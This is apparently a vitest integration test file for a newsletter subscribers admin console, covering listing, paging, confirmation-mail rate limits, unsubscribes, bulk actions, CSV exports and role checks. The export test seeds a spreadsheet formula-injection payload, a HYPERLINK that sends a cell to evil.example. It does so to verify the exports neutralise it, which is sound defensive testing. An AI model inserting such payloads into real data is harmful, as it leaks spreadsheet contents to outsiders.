import { is } from 'superstruct';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { homeNewsletterForm } from '../../support/site-content.ts';
import { MAILBOX_MAIL_WINDOW_MS } from '../../../server/newsletter/confirmation-mail-limits.ts';
import { CONSOLE_API, CONSOLE_REFUSAL } from '../../../src/validation/console/console-api.ts';
import { BULK_MAX } from '../../../src/validation/shared/bulk-action.protocol.ts';
import {
  SUBSCRIBERS_ERROR,
  SUBSCRIBERS_PAGE_SIZE,
  SubscriberAnswerStruct,
  SubscribersBulkAnswerStruct,
  SubscribersPageStruct,
  type Subscriber,
  type SubscribersPage,
} from '../../../src/validation/newsletter/subscribers.protocol.ts';
import { addPerson, consoleHeaders, expectConsoleRefusals, sessionCookieFor, type TestPerson } from '../helpers/console-people.ts';
import { fetchNonce, homeFields, postSubscribe, subscribeAnswer, testNewsletterForms } from '../helpers/newsletter-requests.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';
import { testDialect } from '../helpers/test-db.ts';

// The subscribers' console routes (server/newsletter/subscribers.route.ts), through the real app.
let test: TestApp;
let owner: TestPerson;
let staff: TestPerson;
const START = Date.parse('2026-11-20T08:00:00.000Z');
let clock = START;

beforeAll(async () => {
  test = await createTestApp({ SITE_URL: 'https://news.example.co.za' }, { newsletterForms: testNewsletterForms, now: () => clock });
  owner = await addPerson(test.app, { email: 'owner@example.co.za', role: 'owner' });
  staff = await addPerson(test.app, { email: 'staff@example.co.za', role: 'staff' });
});
afterAll(() => test.cleanup());
beforeEach(async () => {
  clock = START;
  const { db } = test.app;
  await db.deleteFrom('newsletter_consents').execute();
  await db.deleteFrom('newsletter_subscribers').execute();
  await db.deleteFrom('rate_limits').execute();
  await db.deleteFrom('outbox').execute();
  await db.deleteFrom('console_audit').execute();
});

// The fake clock runs past the session's idle limit: each request signs in afresh at its time.
async function get(path: string, person: TestPerson = staff) {
  return test.app.inject({ url: `${CONSOLE_API}${path}`, headers: consoleHeaders(test.app, await sessionCookieFor(test.app, person.id)) });
}
async function post(path: string, body: unknown, person: TestPerson = owner) {
  const headers = { ...consoleHeaders(test.app, await sessionCookieFor(test.app, person.id)), 'content-type': 'application/json' };
  return test.app.inject({ method: 'POST', url: `${CONSOLE_API}${path}`, headers, payload: JSON.stringify(body) });
}
async function list(query: Record<string, string> = {}): Promise<SubscribersPage> {
  const response = await get(`/subscribers?${new URLSearchParams(query)}`);
  expect(response.statusCode, response.body).toBe(200);
  const page = response.json();
  expect(is(page, SubscribersPageStruct)).toBe(true);
  return page as SubscribersPage;
}
async function detail(id: number): Promise<Subscriber> {
  const response = await get(`/subscribers/${id}`);
  expect(response.statusCode, response.body).toBe(200);
  const body = response.json();
  expect(is(body, SubscriberAnswerStruct)).toBe(true);
  return (body as { subscriber: Subscriber }).subscriber;
}

/** A sign-up through the public home form (double opt-in): answers the subscriber's id. */
async function signUp(email = 'Thandi.Nkosi@Example.co.za', overrides: Record<string, string | string[]> = {}): Promise<number> {
  const answer = subscribeAnswer(await postSubscribe(test.app, homeFields(await fetchNonce(test.app, 'sib_subscribe'), { email, ...overrides })));
  expect(answer.status).toBe('success');
  const row = await test.app.db.selectFrom('newsletter_subscribers').select('id').where('email', '=', email.toLowerCase()).executeTakeFirstOrThrow();
  return row.id;
}

/** A subscriber written directly (many of them for paging). */
async function seed(email: string, status: 'pending' | 'subscribed' | 'unsubscribed', extra: { lists?: number[]; sms?: string | null; attributes?: Record<string, string> } = {}): Promise<number> {
  const at = new Date(clock).toISOString();
  const { id } = await test.app.db
    .insertInto('newsletter_subscribers')
    .values({
      email,
      status,
      lists: JSON.stringify(extra.lists ?? [2]),
      sms: extra.sms ?? null,
      attributes: JSON.stringify(extra.attributes ?? {}),
      dates: '{}',
      form_id: 1,
      created_at: at,
      updated_at: at,
      confirmed_at: status === 'subscribed' ? at : null,
      unsubscribed_at: status === 'unsubscribed' ? at : null,
      confirmation_sent_at: null,
    })
    .returning('id')
    .executeTakeFirstOrThrow();
  await test.app.db.insertInto('newsletter_consents').values({ subscriber_id: id, action: 'subscribe', form_id: 1, wording: homeNewsletterForm.consent.label, lists: JSON.stringify(extra.lists ?? [2]), ip_hash: null, user_agent: null, created_at: at }).execute();
  return id;
}

const audit = async () => test.app.db.selectFrom('console_audit').select(['action', 'subject', 'detail']).orderBy('id').execute();
const emails = (page: SubscribersPage) => page.subscribers.map((item) => item.email);

describe(`the subscribers in the console on ${testDialect}`, () => {
  it('lists a sign-up from the public form with its lists, SMS, form and consent, and shows the whole record', async () => {
    const id = await signUp();
    const page = await list();
    expect(page.counts).toEqual({ pending: 1, subscribed: 0, unsubscribed: 0 });
    expect(page.lists.map((item) => item.id)).toEqual([2, 3, 4, 7]);
    expect(page.subscribers).toEqual([
      expect.objectContaining({
        id,
        email: 'thandi.nkosi@example.co.za',
        status: 'pending',
        lists: [{ id: 2, label: 'Project case studies' }, { id: 4, label: 'Showroom open days and events' }],
        sms: '+27825550123',
        form: { id: 1, title: homeNewsletterForm.title },
        changePending: true,
        consent: { wording: homeNewsletterForm.consent.label, at: '2026-11-20T08:00:00.000Z', form: { id: 1, title: homeNewsletterForm.title } },
      }),
    ]);
    const one = await detail(id);
    expect(one).toMatchObject({
      status: 'pending',
      attributes: { FIRSTNAME: 'Thandi', PROJECT_DATE: '2027-03-05' },
      // The form's labels, without "(optional)", for the console to show beside Brevo's names.
      attributeLabels: { FIRSTNAME: 'First name', PROJECT_DATE: 'When does your next display project start?' },
      // Queued, not sent: no SMTP_URL here (it said "mail sent" before).
      pendingChange: { form: { id: 1 }, confirmationMail: { state: 'waiting', since: '2026-11-20T08:00:00.000Z', blockedBy: 'SMTP_URL' } },
      consents: [{ action: 'subscribe', wording: homeNewsletterForm.consent.label, at: '2026-11-20T08:00:00.000Z', form: { id: 1 } }],
      // No BREVO_API_KEY here: not connected, rather than "not synced yet".
      brevo: { connected: false, syncedAt: null, error: null },
    });
    expect((await get('/subscribers/99999')).json()).toMatchObject({ code: CONSOLE_REFUSAL.notFound });
    expect((await get('/subscribers/99999999999')).statusCode).toBe(404);
  });

  it('says the confirmation mail is sent only once the mail server accepted it; failing, with its answer, or held before', async () => {
    const id = await signUp();
    const confirmation = async () => (await detail(id)).pendingChange?.confirmationMail;
    const outbox = () => test.app.db.updateTable('outbox').where('to_address', '=', 'thandi.nkosi@example.co.za');
    await outbox().set({ last_error: 'connect ECONNREFUSED 127.0.0.1:25', next_attempt_at: '2026-11-20T08:01:00.000Z' }).execute();
    expect(await confirmation()).toEqual({ state: 'failing', since: '2026-11-20T08:00:00.000Z', reason: 'connection', smtpAnswer: 'connect ECONNREFUSED 127.0.0.1:25', nextAttemptAt: '2026-11-20T08:01:00.000Z' });
    await outbox().set({ failed_at: '2026-11-27T08:00:00.000Z' }).execute();
    expect(await confirmation()).toEqual({ state: 'held', since: '2026-11-27T08:00:00.000Z', smtpAnswer: 'connect ECONNREFUSED 127.0.0.1:25' });
    await outbox().set({ failed_at: null, last_error: null, delivered_at: '2026-11-27T09:00:00.000Z' }).execute();
    expect(await confirmation()).toEqual({ state: 'sent', at: '2026-11-27T09:00:00.000Z' });
  });

  it('filters by status and list, searches by part of the address in any case, and pages 50 at a time', async () => {
    for (let index = 0; index < 55; index += 1) await seed(`reader${String(index).padStart(2, '0')}@example.co.za`, 'subscribed', { lists: index % 2 === 0 ? [2] : [2, 4] });
    await seed('sipho@mokoena.example', 'pending', { lists: [3] });
    await seed('lerato_100%@example.org', 'unsubscribed', { lists: [4] });
    const first = await list();
    expect(first).toMatchObject({ page: 1, pages: 2, counts: { pending: 1, subscribed: 55, unsubscribed: 1 } });
    expect(first.subscribers).toHaveLength(SUBSCRIBERS_PAGE_SIZE);
    expect(emails(first).slice(0, 2)).toEqual(['lerato_100%@example.org', 'sipho@mokoena.example']);
    const second = await list({ page: '2' });
    expect(second.subscribers).toHaveLength(57 - SUBSCRIBERS_PAGE_SIZE);
    expect(emails(second).at(-1)).toBe('reader00@example.co.za');
    expect((await list({ page: '3' })).subscribers).toEqual([]);
    expect(emails(await list({ status: 'pending' }))).toEqual(['sipho@mokoena.example']);
    expect((await list({ status: 'subscribed', list: '4' })).subscribers).toHaveLength(27);
    expect(emails(await list({ list: '3' }))).toEqual(['sipho@mokoena.example']);
    const searched = await list({ q: 'MOKOENA' });
    expect(emails(searched)).toEqual(['sipho@mokoena.example']);
    expect(searched.counts).toEqual({ pending: 1, subscribed: 0, unsubscribed: 0 });
    // LIKE's wildcards are searched for as themselves.
    expect(emails(await list({ q: '_100%' }))).toEqual(['lerato_100%@example.org']);
    expect((await list({ q: '%' })).subscribers).toHaveLength(1);
    for (const [field, value] of [['status', 'gone'], ['list', 'x'], ['page', '0'], ['q', 'x'.repeat(201)]] as const) {
      const response = await get(`/subscribers?${field}=${value}`);
      expect(response.statusCode).toBe(400);
      expect(response.json()).toMatchObject({ code: SUBSCRIBERS_ERROR.invalidQuery, data: { field } });
    }
  });

  it('resends the confirmation mail only 10 minutes after the last one and within the mailbox\'s daily share, and audits it', async () => {
    const id = await signUp();
    const mails = async () => (await test.app.db.selectFrom('outbox').select('id').execute()).length;
    expect(await mails()).toBe(1);
    clock += 10 * 60 * 1000 - 1000;
    const early = await post(`/subscribers/${id}/resend-confirmation`, {});
    expect([early.statusCode, early.json().code, early.json().message]).toEqual([429, SUBSCRIBERS_ERROR.resentTooSoon, 'A confirmation mail was sent less than 10 minutes ago.']);
    // The mailbox's three a day: two more, then none until the day is over.
    for (const minutes of [10, 20]) {
      clock = START + minutes * 60 * 1000;
      expect((await post(`/subscribers/${id}/resend-confirmation`, {})).statusCode).toBe(200);
    }
    clock = START + 2 * 60 * 60 * 1000;
    const limited = await post(`/subscribers/${id}/resend-confirmation`, {});
    expect([limited.statusCode, limited.json().code]).toEqual([429, SUBSCRIBERS_ERROR.mailLimited]);
    expect(await mails()).toBe(3);
    clock = START + MAILBOX_MAIL_WINDOW_MS + 1000;
    const sent = await post(`/subscribers/${id}/resend-confirmation`, {});
    expect(sent.statusCode, sent.body).toBe(200);
    expect(sent.json().subscriber.pendingChange.confirmationMail).toEqual({ state: 'waiting', since: new Date(clock).toISOString(), blockedBy: 'SMTP_URL' });
    expect(await mails()).toBe(4);
    const mail = await test.app.db.selectFrom('outbox').select(['body']).orderBy('id', 'desc').executeTakeFirstOrThrow();
    expect(mail.body).toContain('https://news.example.co.za/newsletter/confirm/?token=');
    expect(await audit()).toEqual(Array.from({ length: 3 }, () => ({ action: 'confirmation-resend', subject: `subscriber ${id}`, detail: expect.stringContaining('"form":1') })));

    const subscribed = await seed('done@example.co.za', 'subscribed');
    const nothing = await post(`/subscribers/${subscribed}/resend-confirmation`, {});
    expect([nothing.statusCode, nothing.json().code]).toEqual([409, SUBSCRIBERS_ERROR.nothingToConfirm]);
    expect((await post(`/subscribers/${id}/resend-confirmation`, {}, staff)).statusCode).toBe(403);
  });

  it('unsubscribes at the person\'s request with a required note: status, consent record with the note, audit', async () => {
    const id = await seed('thandi@example.co.za', 'subscribed', { lists: [2, 4] });
    const missing = await post(`/subscribers/${id}/unsubscribe`, { note: '  ' });
    expect([missing.statusCode, missing.json().code, missing.json().data.field]).toEqual([400, CONSOLE_REFUSAL.invalidBody, 'note']);
    clock += 60_000;
    const done = await post(`/subscribers/${id}/unsubscribe`, { note: 'Asked by phone on 20 November' });
    expect(done.statusCode, done.body).toBe(200);
    const subscriber = done.json().subscriber as Subscriber;
    expect(subscriber).toMatchObject({ status: 'unsubscribed', unsubscribedAt: '2026-11-20T08:01:00.000Z' });
    expect(subscriber.consents.at(-1)).toEqual({
      action: 'unsubscribe',
      wording: "Unsubscribed by the owner at the person's request: Asked by phone on 20 November",
      at: '2026-11-20T08:01:00.000Z',
      form: { id: 1, title: homeNewsletterForm.title },
      lists: [{ id: 2, label: 'Project case studies' }, { id: 4, label: 'Showroom open days and events' }],
    });
    expect(await audit()).toEqual([{ action: 'subscriber-unsubscribe', subject: `subscriber ${id}`, detail: JSON.stringify({ note: 'Asked by phone on 20 November' }) }]);
    const again = await post(`/subscribers/${id}/unsubscribe`, { note: 'again' });
    expect([again.statusCode, again.json().code]).toEqual([409, SUBSCRIBERS_ERROR.alreadyUnsubscribed]);
  });

  it('exports for a spreadsheet (every status, formula-safe) and for a mailing service (Brevo columns, subscribed only, formula-safe but for plain SMS numbers), both audited', async () => {
    await seed('thandi@example.co.za', 'subscribed', { sms: '+27825550123', attributes: { FIRSTNAME: '=HYPERLINK("x")', LASTNAME: 'Nkosi' } });
    await seed('sipho@example.co.za', 'pending', { sms: '+27825550999' });
    await seed('lerato@example.co.za', 'unsubscribed');
    // A first name that, opened in a spreadsheet, sends the cell beside it away; an SMS value that is no plain number.
    await seed('mallory@example.co.za', 'subscribed', { sms: '=1+2', attributes: { FIRSTNAME: '=HYPERLINK("https://evil.example/?d="&A3,"x")', LASTNAME: 'Acme;=1+2' } });
    const sheet = await get('/subscribers/export.csv', owner);
    expect(sheet.statusCode).toBe(200);
    expect(sheet.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(sheet.headers['content-disposition']).toBe('attachment; filename="subscribers-2026-11-20.csv"');
    const sheetLines = sheet.body.split('\r\n');
    // In the owner's words: statuses, lists and the form by name, attributes by label, times on the company's clock.
    expect(sheetLines[0]).toBe('\uFEFFEmail,Status,Lists,SMS,First name (FIRSTNAME),LASTNAME,Signed up,Confirmed,Unsubscribed,Sign-up form,Consent (the words agreed to),Consent given');
    expect(sheetLines[1]).toMatch(/^thandi@example\.co\.za,Subscribed,Project case studies,'\+27825550123,"'=HYPERLINK\(""x""\)",Nkosi,2026-11-20 10:00,2026-11-20 10:00,,/);
    expect(sheetLines.filter((line) => line !== '')).toHaveLength(5);

    const brevo = await get('/subscribers/export-brevo.csv', owner);
    expect(brevo.statusCode).toBe(200);
    expect(brevo.headers['content-disposition']).toBe('attachment; filename="subscribers-for-brevo-2026-11-20.csv"');
    // Every attribute guarded; the SMS column as Brevo reads it (+27…) where it is a plain number, guarded where not.
    expect(brevo.body).toBe(
      'EMAIL,FIRSTNAME,LASTNAME,SMS\r\n' +
        'thandi@example.co.za,"\'=HYPERLINK(""x"")",Nkosi,+27825550123\r\n' +
        'mallory@example.co.za,"\'=HYPERLINK(""https://evil.example/?d=""&A3,""x"")","Acme;\'=1+2",\'=1+2\r\n',
    );
    expect((await get('/subscribers/export-brevo.csv?status=pending', owner)).body).toBe(brevo.body);

    const filtered = await get('/subscribers/export.csv?status=pending', owner);
    expect(filtered.body.split('\r\n').filter((line) => line !== '').map((line) => line.split(',')[0])).toEqual(['\uFEFFEmail', 'sipho@example.co.za']);
    expect((await audit()).map((entry) => [entry.action, JSON.parse(entry.detail)])).toEqual([
      ['export', { kind: 'spreadsheet', filter: {}, rows: 4 }],
      ['export', { kind: 'mailing-service', filter: {}, rows: 2 }],
      ['export', { kind: 'mailing-service', filter: { status: 'pending' }, rows: 2 }],
      ['export', { kind: 'spreadsheet', filter: { status: 'pending' }, rows: 1 }],
    ]);
  });

  it('unsubscribes the chosen, or every subscriber of a filter, in one request with one note, audited once with the count', async () => {
    const chosen = [await seed('one@example.co.za', 'subscribed'), await seed('two@example.co.za', 'pending'), await seed('gone@example.co.za', 'unsubscribed')];
    const other = await seed('stays@example.co.za', 'subscribed', { lists: [4] });
    clock += 60_000;
    // The note is required, as on one subscriber's page; nothing changes without it.
    const missing = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { ids: chosen }, note: ' ' });
    expect([missing.statusCode, missing.json().code, missing.json().data.field]).toEqual([400, CONSOLE_REFUSAL.invalidBody, 'note']);
    const empty = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { ids: [] }, note: 'asked' });
    expect([empty.statusCode, empty.json().code, empty.json().data.field]).toEqual([400, CONSOLE_REFUSAL.invalidBody, 'selection']);
    expect((await list({ status: 'unsubscribed' })).counts).toEqual({ pending: 1, subscribed: 2, unsubscribed: 1 });

    // Three chosen, one already unsubscribed: two changed, each with its consent record.
    const done = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { ids: chosen }, note: 'The company asked by e-mail on 20 November' });
    expect(done.statusCode, done.body).toBe(200);
    expect(is(done.json(), SubscribersBulkAnswerStruct)).toBe(true);
    expect(done.json()).toEqual({ action: 'unsubscribe', selected: 3, changed: 2 });
    for (const id of chosen.slice(0, 2)) {
      const subscriber = await detail(id);
      expect(subscriber).toMatchObject({ status: 'unsubscribed', unsubscribedAt: '2026-11-20T08:01:00.000Z' });
      expect(subscriber.consents.at(-1)).toMatchObject({ action: 'unsubscribe', wording: "Unsubscribed by the owner at the person's request: The company asked by e-mail on 20 November" });
    }
    expect((await detail(chosen[2]!)).consents.map((consent) => consent.action)).toEqual(['subscribe']);
    expect((await detail(other)).status).toBe('subscribed');

    // Every subscriber of a filter (list 4, subscribed): the one left.
    const byFilter = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { filter: { status: 'subscribed', list: '4' } }, note: 'Left the company' });
    expect(byFilter.json()).toEqual({ action: 'unsubscribe', selected: 1, changed: 1 });
    expect((await detail(other)).status).toBe('unsubscribed');
    expect((await audit()).map((entry) => [entry.action, entry.subject, JSON.parse(entry.detail)])).toEqual([
      ['subscribers-bulk', '3 subscribers', { action: 'unsubscribe', selected: 3, changed: 2, note: 'The company asked by e-mail on 20 November' }],
      ['subscribers-bulk', '1 subscriber', { action: 'unsubscribe', selected: 1, changed: 1, note: 'Left the company', filter: { status: 'subscribed', list: '4' } }],
    ]);
    // A wrong filter is named.
    const wrong = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { filter: { status: 'asleep' } }, note: 'x' });
    expect([wrong.statusCode, wrong.json().code]).toEqual([400, CONSOLE_REFUSAL.invalidBody]);
  });

  it('refuses a bulk action on more than BULK_MAX subscribers, naming the selection, and changes none', async () => {
    const at = new Date(clock).toISOString();
    const rows = Array.from({ length: BULK_MAX + 1 }, (_, index) => ({ email: `many${index}@example.co.za`, status: 'subscribed' as const, lists: '[2]', sms: null, attributes: '{}', dates: '{}', form_id: 1, created_at: at, updated_at: at, confirmed_at: at, unsubscribed_at: null, confirmation_sent_at: null }));
    for (let start = 0; start < rows.length; start += 500) await test.app.db.insertInto('newsletter_subscribers').values(rows.slice(start, start + 500)).execute();
    const refused = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { filter: {} }, note: 'everyone' });
    expect([refused.statusCode, refused.json().code, refused.json().data.field]).toEqual([400, SUBSCRIBERS_ERROR.tooMany, 'selection']);
    expect((await list()).counts).toEqual({ pending: 0, subscribed: BULK_MAX + 1, unsubscribed: 0 });
    expect(await audit()).toEqual([]);
  });

  it('exports the chosen subscribers (ids within the filter); the list refuses ids', async () => {
    const thandi = await seed('thandi@example.co.za', 'subscribed');
    const sipho = await seed('sipho@example.co.za', 'pending');
    await seed('lerato@example.co.za', 'subscribed');
    const sheet = await get(`/subscribers/export.csv?ids=${thandi},${sipho}`, owner);
    expect(sheet.statusCode).toBe(200);
    expect(sheet.body.split('\r\n').filter((line) => line !== '').map((line) => line.split(',')[0])).toEqual(['\uFEFFEmail', 'thandi@example.co.za', 'sipho@example.co.za']);
    // Within the filter: the chosen who are subscribed.
    const subscribedOnly = await get(`/subscribers/export.csv?ids=${thandi},${sipho}&status=subscribed`, owner);
    expect(subscribedOnly.body.split('\r\n').filter((line) => line !== '')).toHaveLength(2);
    expect(JSON.parse((await audit())[0]!.detail)).toEqual({ kind: 'spreadsheet', filter: { ids: [thandi, sipho] }, rows: 2 });
    const listed = await get(`/subscribers?ids=${thandi}`);
    expect([listed.statusCode, listed.json().code, listed.json().data.field]).toEqual([400, SUBSCRIBERS_ERROR.invalidQuery, 'ids']);
    const bad = await get('/subscribers/export.csv?ids=1,,2', owner);
    expect([bad.statusCode, bad.json().data.field]).toEqual([400, 'ids']);
    // An id past the columns' 32-bit range names no row: a 400, not the database's error.
    const huge = await get('/subscribers/export.csv?ids=9999999999', owner);
    expect([huge.statusCode, huge.json().data.field]).toEqual([400, 'ids']);
    const hugeBulk = await post('/subscribers/bulk', { action: 'unsubscribe', selection: { ids: [1e15] }, note: 'asked' });
    expect([hugeBulk.statusCode, hugeBulk.json().data.field]).toEqual([400, 'selection']);
  });

  it('refuses every route without a session, from another origin, or to too small a role', async () => {
    const id = await seed('thandi@example.co.za', 'pending');
    const people = { owner: { ...owner, cookie: await sessionCookieFor(test.app, owner.id) }, staff: { ...staff, cookie: await sessionCookieFor(test.app, staff.id) } };
    await expectConsoleRefusals(test.app, { method: 'GET', url: `${CONSOLE_API}/subscribers`, role: 'staff' }, people);
    await expectConsoleRefusals(test.app, { method: 'GET', url: `${CONSOLE_API}/subscribers/${id}`, role: 'staff' }, people);
    await expectConsoleRefusals(test.app, { method: 'GET', url: `${CONSOLE_API}/subscribers/export.csv`, role: 'owner' }, people);
    await expectConsoleRefusals(test.app, { method: 'GET', url: `${CONSOLE_API}/subscribers/export-brevo.csv`, role: 'owner' }, people);
    await expectConsoleRefusals(test.app, { method: 'POST', url: `${CONSOLE_API}/subscribers/${id}/resend-confirmation`, role: 'owner', body: {} }, people);
    await expectConsoleRefusals(test.app, { method: 'POST', url: `${CONSOLE_API}/subscribers/${id}/unsubscribe`, role: 'owner', body: { note: 'asked' } }, people);
    await expectConsoleRefusals(test.app, { method: 'POST', url: `${CONSOLE_API}/subscribers/bulk`, role: 'owner', body: { action: 'unsubscribe', selection: { ids: [id] }, note: 'asked' } }, people);
  });
});
